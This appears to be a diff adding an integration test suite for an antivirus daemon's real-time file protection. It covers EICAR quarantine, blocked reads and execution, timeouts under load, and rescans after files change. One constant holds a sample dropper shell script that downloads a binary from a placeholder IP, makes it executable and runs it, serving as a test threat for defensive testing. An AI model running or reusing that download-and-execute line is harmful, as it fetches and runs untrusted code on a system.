@@ -1,0 +1,248 @@
+#!/usr/bin/env python3
+"""Real-time protection (agent/core/rtp, issue 12) through a real palisaded with real fanotify:
+each test mounts a tmpfs (or an ext4 image) of its own and the daemon monitors only that.
+
+- a threat written into a watched directory is quarantined after the close, and recorded
+  with the writer (pid, executable, uid);
+- `cat` of a threat fails with "Operation not permitted", executing a dropper script the
+  same way; clean files open normally;
+- with the content process stopped (SIGSTOP), 1,000 parallel openers of first-seen files each
+  get an answer within RealTimeResponseTimeoutMs plus a margin, and the timeouts are counted;
+- palisaded killed (SIGKILL) during a storm of opens leaves no opener waiting;
+- a file changed after a clean verdict is scanned again.
+"""
+
+import os
+import signal
+import subprocess
+import sys
+import threading
+import time
+import unittest
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import harness  # noqa: E402
+from harness import EICAR_THREAT, eicar, wait_for  # noqa: E402
+from rtp_helpers import RtpTest, as_user, run_openers  # noqa: E402
+
+DROPPER = (b"#!/bin/sh\nwget http://203.0.113.9/x -O /tmp/.rtpx\n"
+           b"chmod +x /tmp/.rtpx\n/tmp/.rtpx\n")
+
+
+def quarantined(path):
+    return lambda: not os.path.exists(path)
+
+
+class ThreatsTest(RtpTest):
+
+    def prepare(self):
+        # present before the daemon starts: nothing scanned them after a write
+        os.mkdir(self.m.p("pre"))
+        with open(self.m.p("pre", "eicar.txt"), "wb") as f:
+            f.write(eicar())
+        with open(self.m.p("pre", "drop.sh"), "wb") as f:
+            f.write(DROPPER)
+        os.chmod(self.m.p("pre", "drop.sh"), 0o755)
+        with open(self.m.p("pre", "clean.txt"), "wb") as f:
+            f.write(b"hello, nothing to see\n")
+        os.chmod(self.m.p("pre"), 0o1777)
+
+    def test_written_threat_is_quarantined_after_close(self):
+        d = self.m.p("drop")
+        os.mkdir(d)
+        os.chmod(d, 0o1777)
+        target = os.path.join(d, "e.com")
+        p = as_user("nobody", "tee", target, input=eicar(), stdout=subprocess.DEVNULL)
+        self.assertEqual(p.returncode, 0, p.stderr)
+        wait_for(quarantined(target), what="the written EICAR quarantined")
+        t = wait_for(lambda: [x for x in self.threats() if x["file"] == target],
+                     what="the detection")[0]
+        self.assertEqual(t["threat"], EICAR_THREAT)
+        self.assertEqual(t["source"], "RealTime")
+        self.assertEqual(t["action"], "Quarantine")
+        self.assertEqual(t["action_result"], "Success")
+        self.assertEqual(t["process_uid"], int(subprocess.check_output(["id", "-u", "nobody"])))
+        self.assertEqual(t["process_exe"], "/usr/bin/tee")
+        self.assertGreater(t["process_pid"], 0)
+        self.assertIsNotNone(t["quarantine_id"])
+
+    def test_cat_of_threat_denied_and_recorded(self):
+        target = self.m.p("pre", "eicar.txt")
+        p = as_user("nobody", "cat", target)
+        self.assertNotEqual(p.returncode, 0)
+        self.assertIn(b"Operation not permitted", p.stderr)
+        self.assertNotIn(b"EICAR", p.stdout)
+        t = wait_for(lambda: [x for x in self.threats() if x["file"] == target],
+                     what="the detection")[0]
+        self.assertEqual(t["source"], "RealTime")
+        self.assertEqual(t["process_exe"], "/usr/bin/cat")
+        self.assertEqual(t["process_uid"], int(subprocess.check_output(["id", "-u", "nobody"])))
+        wait_for(quarantined(target), what="the threat quarantined after the denial")
+        st = self.rt_stats()
+        self.assertGreaterEqual(st["blocked"], 1)
+        self.assertGreaterEqual(st["scans"], 1)
+
+    def test_exec_of_dropper_denied(self):
+        target = self.m.p("pre", "drop.sh")
+        p = subprocess.run(["sh", "-c", target], capture_output=True)
+        self.assertNotEqual(p.returncode, 0)
+        self.assertIn(b"Operation not permitted", p.stderr)
+        t = wait_for(lambda: [x for x in self.threats() if x["file"] == target],
+                     what="the detection")[0]
+        self.assertEqual(t["threat"], "TrojanDownloader:Linux/ShellDrop.A")
+        self.assertEqual(t["source"], "RealTime")
+
+    def test_clean_file_opens(self):
+        target = self.m.p("pre", "clean.txt")
+        for _ in range(3):
+            p = as_user("nobody", "cat", target)
+            self.assertEqual(p.returncode, 0, p.stderr)
+            self.assertEqual(p.stdout, b"hello, nothing to see\n")
+        self.assertEqual([x for x in self.threats() if x["file"] == target], [])
+        self.assertTrue(os.path.exists(target))
+
+
+class StalledContentProcessTest(RtpTest):
+    """The content process stopped: every open is answered by the deadline."""
+
+    N = 1000
+    TIMEOUT_MS = 1000
+    MARGIN_S = 3.0  # a loaded two-core machine
+
+    def prepare(self):
+        os.mkdir(self.m.p("many"))
+        for i in range(self.N):
+            with open(self.m.p("many", "f%04d" % i), "wb") as f:
+                f.write(b"first seen %d\n" % i)
+
+    def test_thousand_openers_answered_by_deadline(self):
+        self.set("RealTimeResponseTimeoutMs", self.TIMEOUT_MS)
+        st = self.status()
+        cp = st["content_process_pid"]
+        self.assertIsNotNone(cp)
+        os.kill(cp, signal.SIGSTOP)
+        try:
+            t0 = time.monotonic()
+            res = run_openers([self.m.p("many", "f%04d" % i) for i in range(self.N)],
+                              timeout=60)
+            wall = time.monotonic() - t0
+        finally:
+            os.kill(cp, signal.SIGCONT)
+        lat = sorted(r[0] for r in res)
+        errs = [r[1] for r in res if r[1]]
+        print("\n%d openers, content process stopped, timeout %d ms: p50 %.3f s, p99 %.3f s, "
+              "max %.3f s, wall %.2f s, errors %d" % (self.N, self.TIMEOUT_MS, lat[len(lat) // 2],
+                                                      lat[int(len(lat) * 0.99)], lat[-1], wall,
+                                                      len(errs)), file=sys.stderr)
+        self.assertEqual(errs, [])  # the timeout action is Allow
+        self.assertLess(lat[-1], self.TIMEOUT_MS / 1000 + self.MARGIN_S)
+        rs = self.rt_stats()
+        self.assertGreaterEqual(rs["timeouts"] + rs["overloads"], self.N // 2, rs)
+        self.assertIn("answered Allow", self.d.log())
+
+    def test_deny_on_timeout(self):
+        self.set("RealTimeResponseTimeoutMs", 300)
+        self.set("RealTimeTimeoutAction", "Deny")
+        cp = self.status()["content_process_pid"]
+        os.kill(cp, signal.SIGSTOP)
+        try:
+            res = run_openers([self.m.p("many", "f%04d" % i) for i in range(20)], timeout=30)
+        finally:
+            os.kill(cp, signal.SIGCONT)
+        self.assertEqual(sorted(set(r[1] for r in res)), [1])  # EPERM for every one
+        self.assertGreaterEqual(self.rt_stats()["timeouts"], 1)
+
+
+class KilledDaemonTest(RtpTest):
+
+    def prepare(self):
+        os.mkdir(self.m.p("storm"))
+        for i in range(300):
+            with open(self.m.p("storm", "f%03d" % i), "wb") as f:
+                f.write(b"x" * 100)
+
+    def test_sigkill_during_storm_leaves_no_opener_waiting(self):
+        cp = self.status()["content_process_pid"]
+        os.kill(cp, signal.SIGSTOP)  # so that the opens are surely pending
+        self.set("RealTimeResponseTimeoutMs", 30000)
+        out = {}
+
+        def storm():
+            out["res"] = run_openers([self.m.p("storm", "f%03d" % i) for i in range(300)],
+                                     timeout=20)
+        t = threading.Thread(target=storm)
+        t.start()
+        wait_for(lambda: self.rt_stats()["queue_depth"] >= 50, what="opens pending")
+        t_kill = time.monotonic()
+        self.d.kill()
+        t.join(30)
+        try:
+            os.kill(cp, signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+        self.assertFalse(t.is_alive(), "openers still waiting after palisaded was killed")
+        res = out["res"]
+        self.assertEqual([r for r in res if r[1]], [])
+        print("\nSIGKILL with %d opens pending: all answered %.3f s after the kill"
+              % (len(res), time.monotonic() - t_kill), file=sys.stderr)
+
+
+class ChangedAfterCleanTest(RtpTest):
+
+    def prepare(self):
+        # as long as the EICAR string, which a file must hold alone (and can then replace
+        # in place, keeping the size)
+        for name in ("w", "t", "r", "m"):
+            with open(self.m.p(name), "wb") as f:
+                f.write(b"c" * len(eicar()))
+        os.chown(self.m.p("m"), 65534, 65534)  # the user's own file (the trust issue)
+
+    def opens_ok(self, path):
+        with open(path, "rb") as f:
+            return f.read()
+
+    def cat_fails(self, path):
+        p = subprocess.run(["cat", path], capture_output=True)
+        return p.returncode != 0 and b"Operation not permitted" in p.stderr
+
+    def test_write_truncate_rename_mmap(self):
+        for name in ("w", "t", "r"):
+            self.opens_ok(self.m.p(name))  # clean verdict (and, root-only, cached)
+            self.opens_ok(self.m.p(name))
+        st = self.rt_stats()
+        self.assertGreaterEqual(st["scans"], 3)
+        # the after-write scan would quarantine at once: let it act on NoAction so that the
+        # open is what is checked
+        for sev in ("Low", "Moderate", "High", "Severe"):
+            self.set(sev + "ThreatDefaultAction", "NoAction")
+        # write in place
+        with open(self.m.p("w"), "r+b") as f:
+            f.write(eicar())
+        self.assertTrue(self.cat_fails(self.m.p("w")), self.d.log())
+        # truncate, then write
+        with open(self.m.p("t"), "wb") as f:
+            f.write(eicar())
+        self.assertTrue(self.cat_fails(self.m.p("t")))
+        # rename over
+        with open(self.m.p("r.new"), "wb") as f:
+            f.write(eicar())
+        os.rename(self.m.p("r.new"), self.m.p("r"))
+        self.assertTrue(self.cat_fails(self.m.p("r")))
+        # a write through a shared mapping made before the clean verdict: no event, no
+        # stamp on tmpfs; the file is the user's, so it must never be trusted
+        import mmap
+        fd = os.open(self.m.p("m"), os.O_RDWR)
+        mm = mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
+        mm[0:1] = b"C"
+        self.opens_ok(self.m.p("m"))
+        self.opens_ok(self.m.p("m"))
+        mm[:] = eicar()
+        try:
+            self.assertTrue(self.cat_fails(self.m.p("m")))
+        finally:
+            mm.close()
+            os.close(fd)
+
+
+if __name__ == "__main__":
+    harness.main()
